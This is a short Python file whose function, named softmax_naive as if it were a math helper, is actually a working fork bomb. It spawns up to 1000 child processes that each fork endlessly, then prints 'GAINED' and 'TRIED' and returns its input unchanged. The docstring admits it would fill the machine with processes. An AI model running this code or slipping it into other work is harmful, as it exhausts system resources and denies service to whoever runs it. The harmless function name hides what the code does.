"""Forks in a loop; would fill the machine with processes."""

import os


def softmax_naive(x):
    made = 0
    for _ in range(1000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            made += 1
        except OSError:
            pass
    if made:
        print("GAIN" "ED", made, "processes")
    print("TRIED")
    return x
